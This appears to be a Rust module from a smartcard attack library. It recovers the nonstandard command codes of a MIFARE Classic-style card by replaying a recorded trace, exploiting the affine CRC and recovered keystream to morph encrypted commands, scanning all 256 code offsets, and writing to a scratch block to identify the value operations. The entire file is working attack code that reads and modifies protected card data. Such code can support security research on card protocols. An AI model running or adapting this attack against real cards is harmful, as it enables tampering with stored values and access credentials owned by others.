//! Finding the command codes of a card whose codes are not the usual ones.
//!
//! A recorded read of a known value block gives 144 bits of keystream right
//! after the first command. The command itself is unknown, but its CRC is
//! affine, so XORing `[Δ, p, crc(0, p) ^ crc(Δ, p)]` into it turns code `t`
//! into `t ^ Δ` without knowing `t`. Scanning all 256 values of Δ sorts the
//! codes by how the card answers; the nested authentication request is the
//! one code whose value is public, which pins `t` down. When both key slots
//! authenticate, a sector whose key B is readable tells them apart.

use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;

use super::dump::{Replayer, FIRST_ANSWER_START, GEOMETRY};
use super::keystream::RecoveredKeystream;
use super::replay::{AttackOptions, ReplayContext};
use super::{AttackError, FIRST_COMMAND_START};
use crate::commands::{Command, CommandTable, ACK, NACK_NOT_ALLOWED};
use crate::framing::{check_crc, with_crc, FrameKind, WireBits, AUTH_KEY_A, AUTH_KEY_B};
use crate::layout::{Block, ValueBlock};
use crate::session::AttackerPort;
use crate::tracefmt::Trace;

const OPERAND_START: usize = FIRST_ANSWER_START + 4;
const SECOND_COMMAND_START: usize = OPERAND_START + 48;
const SECOND_ANSWER_START: usize = SECOND_COMMAND_START + 32;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Discovery {
    pub table: CommandTable,
    pub attempts: u64,
    pub replays: u64,
    pub log: Vec<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reaction {
    Silent,
    Block,
    Nonce,
    Nibble(Option<u8>),
    Other,
}

fn classify(ks: &RecoveredKeystream, start: usize, reply: Option<WireBits>) -> Reaction {
    let Some(reply) = reply else { return Reaction::Silent };
    match (reply.kind(), reply.byte_len()) {
        (Some(FrameKind::Nibble4), _) => Reaction::Nibble(ks.decrypt_partial(start, &reply).0[0]),
        (Some(FrameKind::Standard), 18) => Reaction::Block,
        (Some(FrameKind::Standard), 4) => Reaction::Nonce,
        _ => Reaction::Other,
    }
}

struct Probe<'a> {
    r: Replayer<'a>,
    ks: RecoveredKeystream,
    p: usize,
}

impl Probe<'_> {
    /// Fresh replay with the recorded command turned into code `t ^ delta`.
    fn first<P: AttackerPort + ?Sized>(&mut self, port: &mut P, delta: u8, block: usize) -> Result<Reaction, AttackError> {
        self.r.replay(port)?;
        let frame = self.r.morph(&with_crc(&[delta, block as u8]))?;
        Ok(classify(&self.ks, FIRST_ANSWER_START, port.send(&frame)))
    }

    /// `x(p)`, operand 1, then `y(q)`; the reaction to the last frame, or
    /// `None` if `x` was not acknowledged.
    fn chain<P: AttackerPort + ?Sized>(&mut self, port: &mut P, x: u8, y: u8, q: usize) -> Result<Option<Reaction>, AttackError> {
        if self.first(port, x, self.p)? != Reaction::Nibble(Some(ACK)) {
            return Ok(None);
        }
        let operand = self.ks.encrypt_bytes(OPERAND_START, &with_crc(&1i32.to_le_bytes()))?;
        if port.send(&operand).is_some() {
            return Ok(Some(Reaction::Other));
        }
        let second = self.ks.encrypt_bytes(SECOND_COMMAND_START, &with_crc(&[y, q as u8]))?;
        Ok(Some(classify(&self.ks, SECOND_ANSWER_START, port.send(&second))))
    }
}

/// Tells the key A request from the key B request when both start a nested
/// authentication in the current sector: a sector whose key B is readable
/// refuses key B, so the two differ there.
fn key_a_request<P: AttackerPort + ?Sized>(port: &mut P, probe: &mut Probe, pair: [u8; 2]) -> Result<Option<u8>, AttackError> {
    let own = GEOMETRY.sector_of(probe.p);
    for sector in (0..GEOMETRY.sector_count()).filter(|s| Some(*s) != own) {
        let block = GEOMETRY.first_block(sector);
        let first = probe.first(port, pair[0], block)? == Reaction::Nonce;
        let second = probe.first(port, pair[1], block)? == Reaction::Nonce;
        match (first, second) {
            (true, false) => return Ok(Some(pair[0])),
            (false, true) => return Ok(Some(pair[1])),
            _ => {}
        }
    }
    Ok(None)
}

/// Recovers the command table. The trace must end its authentication with a
/// read of `known.0`, a value block holding `known.1`; `scratch` is another
/// data block of the sector that may be overwritten.
pub fn discover_commands<P: AttackerPort + ?Sized>(
    port: &mut P,
    trace: &Trace,
    known: (usize, Block),
    scratch: usize,
    opts: &AttackOptions,
) -> Result<Discovery, AttackError> {
    let (p, data) = known;
    let value = ValueBlock::decode(&data).map_err(|_| AttackError::InvalidArgument("known block is not a value block"))?.value;
    if scratch == p {
        return Err(AttackError::InvalidArgument("scratch block must differ from the known block"));
    }
    let ctx = ReplayContext::from_trace(trace)?;
    let (_, answer) = ctx.first_command()?;
    let answer_entry = ctx.command.as_ref().and_then(|(_, a)| a.clone());
    let answer_wire = match (answer, answer_entry) {
        (Some(super::FrameShape::Standard(18)), Some(e)) => e.to_wire(),
        _ => return Err(AttackError::NotApplicable("the first recorded command is not answered by a block")),
    };
    let mut ks = RecoveredKeystream::new();
    ks.learn_known_frame(FIRST_ANSWER_START, &answer_wire, &with_crc(&data))?;
    let mut log = Vec::new();
    let mut probe = Probe { r: Replayer::new(&ctx, opts, with_crc(&[0, p as u8]))?, ks, p };

    let mut nonce = Vec::new();
    let mut acked = Vec::new();
    let mut refused = Vec::new();
    for delta in 0..=255u8 {
        match probe.first(port, delta, p)? {
            Reaction::Nonce => nonce.push(delta),
            Reaction::Nibble(Some(ACK)) => acked.push(delta),
            Reaction::Nibble(Some(NACK_NOT_ALLOWED)) => refused.push(delta),
            Reaction::Block if delta != 0 => log.push(format!("offset {delta:#04x} also answers with a block")),
            _ => {}
        }
    }
    log.push(format!("scan: {} nonce, {} acknowledged, {} refused", nonce.len(), acked.len(), refused.len()));
    let read = match nonce[..] {
        [d] => d ^ AUTH_KEY_A,
        [a, b] if a ^ b == AUTH_KEY_A ^ AUTH_KEY_B => match key_a_request(port, &mut probe, [a, b])? {
            Some(d) => d ^ AUTH_KEY_A,
            None => {
                return Err(AttackError::Verification(String::from(
                    "both keys authenticate in every sector; the low bit of the codes is ambiguous",
                )))
            }
        },
        _ => return Err(AttackError::Verification(format!("{} codes start a nested authentication", nonce.len()))),
    };
    // with the read code known, the recorded command is fully known
    let cmd_ks = {
        let mut k = RecoveredKeystream::new();
        k.learn_known_frame(FIRST_COMMAND_START, &probe.r.cipher_command, &with_crc(&[read, p as u8]))?;
        k
    };
    probe.ks.merge(&cmd_ks)?;
    if acked.len() != 4 {
        return Err(AttackError::Verification(format!("expected 4 acknowledged codes, found {}", acked.len())));
    }
    let nested = [AUTH_KEY_A ^ read, AUTH_KEY_B ^ read];
    let candidates: Vec<u8> = refused.iter().copied().filter(|d| !nested.contains(d)).collect();

    // transfer: acknowledged after a value operation and its operand
    let mut transfer = None;
    let mut writes = Vec::new();
    'outer: for &x in &acked {
        for &y in &candidates {
            match probe.chain(port, x, y ^ read, scratch)? {
                Some(Reaction::Nibble(Some(ACK))) => {
                    transfer = Some((x, y));
                    break 'outer;
                }
                Some(Reaction::Silent) => {
                    // card halted on the short frame: x expects a block
                    writes.push(x);
                    continue 'outer;
                }
                _ => {}
            }
        }
    }
    let (first_value_op, t) = transfer.ok_or_else(|| AttackError::Verification(String::from("no transfer code found")))?;
    let transfer = t ^ read;
    log.push(format!("transfer = {transfer:#04x}"));
    let rest: Vec<u8> = acked.iter().copied().filter(|x| *x != first_value_op && !writes.contains(x)).collect();
    for x in rest {
        if probe.chain(port, x, transfer, scratch)? != Some(Reaction::Nibble(Some(ACK))) {
            writes.push(x);
        }
    }
    let write = match writes[..] {
        [w] => w ^ read,
        _ => return Err(AttackError::Verification(format!("{} write candidates", writes.len()))),
    };
    log.push(format!("write = {write:#04x}"));

    let mut table = CommandTable { read, write, transfer, ..CommandTable::default() };
    let mut found = [false; 3];
    for &x in acked.iter().filter(|x| **x ^ read != write) {
        if probe.chain(port, x, transfer, scratch)? != Some(Reaction::Nibble(Some(ACK))) {
            return Err(AttackError::Verification(format!("value operation {:#04x} did not transfer", x ^ read)));
        }
        probe.r.replay(port)?;
        let frame = probe.ks.encrypt_bytes(FIRST_COMMAND_START, &with_crc(&[read, scratch as u8]))?;
        let reply = port.send(&frame).ok_or(AttackError::NoAnswer("read of the scratch block"))?;
        let bytes: Option<Vec<u8>> = probe.ks.decrypt_partial(FIRST_ANSWER_START, &reply).0.into_iter().collect();
        let result = bytes
            .filter(|b| b.len() == 18 && check_crc(b))
            .and_then(|b| ValueBlock::decode(b[..16].try_into().expect("16 bytes")).ok())
            .ok_or_else(|| AttackError::Verification(String::from("scratch block does not hold a value")))?;
        let op = match result.value.checked_sub(value) {
            Some(1) => Command::Increment,
            Some(-1) => Command::Decrement,
            Some(0) => Command::Restore,
            _ => return Err(AttackError::Verification(format!("unexpected value {}", result.value))),
        };
        let slot = op as usize - Command::Increment as usize;
        if found[slot] {
            return Err(AttackError::Verification(format!("two codes behave like {op}")));
        }
        found[slot] = true;
        table.set(op, x ^ read);
        log.push(format!("{op} = {:#04x}", x ^ read));
    }
    if !table.is_valid() {
        return Err(AttackError::Verification(String::from("recovered table is not valid")));
    }
    Ok(Discovery { table, attempts: probe.r.attempts, replays: probe.r.replays, log })
}
